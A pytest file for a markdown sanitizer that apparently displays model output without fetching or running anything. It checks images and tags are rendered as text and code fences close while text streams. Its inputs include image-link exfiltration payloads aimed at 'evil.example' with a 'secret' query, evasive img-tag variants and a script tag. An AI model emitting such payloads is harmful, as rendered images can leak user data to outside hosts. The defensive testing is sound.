"""What a model writes is shown without fetching or running anything."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway_core.markdown import as_text, growing, harmless, is_prose


@pytest.mark.parametrize(
    "text",
    [
        "# Head\n\nSome *text*, a [link](https://example.org) and 1 < 2.",
        "```html\n<img src='x'>\n```",
        "~~~\n![a](b)\n~~~\nafter",
        "`<b>` and ``<i> ` ``",
        "- item\n\n  ```html\n  <p>\n  ```\n- next",
        "$a<b$ and <https://example.org>",
        "| a | b |\n|---|---|\n| 1 | `<x>` |",
    ],
)
def test_what_harms_nobody_stays(text):
    assert harmless(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        "![x][1]\n\n[1]: http://evil.example",
        "<img src=http://evil.example>",
        "text <IMG\nsrc=http://evil.example>",
        "`a\n` <img src=http://evil.example> `b`",
        "`a\\` <img src=http://evil.example> `b`",
        "$ ` $ <img src=http://evil.example> `",
        "    ```\n<img src=http://evil.example>\n    ```",
        "para\n    ```\n    <img src=http://evil.example>",
        "- a\n\n      ```\n<img src=http://evil.example>",
        "```a`\n<img src=http://evil.example>\n```",
        "> ```\n<img src=http://evil.example>",
        "```\ncode\n```\n<img src=http://evil.example>",
        "<!-- --><script>x</script>",
    ],
)
def test_s09_s15_images_and_tags_are_shown_as_text(text):
    shown = harmless(text)

    assert "<img" not in shown.lower()
    assert "<script" not in shown
    assert "![" not in shown


def test_an_open_code_block_is_closed_while_the_text_grows():
    assert growing("Look:\n```python\nprint(1)") == "Look:\n```python\nprint(1)\n```"
    assert growing("Look:\n```python\nprint(1)\n```\nDone") == "Look:\n```python\nprint(1)\n```\nDone"


@pytest.mark.parametrize(
    ("text", "is_it"), [("Paris is ", True), ("```\ncode ", False), ("see `co", False), ("$x + ", False)]
)
def test_a_seam_is_not_put_into_code_or_formulas(text, is_it):
    assert is_prose(text, len(text)) is is_it


@given(st.text(max_size=200))
def test_any_text_can_be_shown(text):
    growing(text)
    as_text(text)


@given(st.text(alphabet=st.sampled_from("`~<img >!\n-x $\\"), max_size=60))
def test_nothing_is_lost(text):
    assert harmless(text).replace("&lt;", "<").replace("!\\[", "![") == text
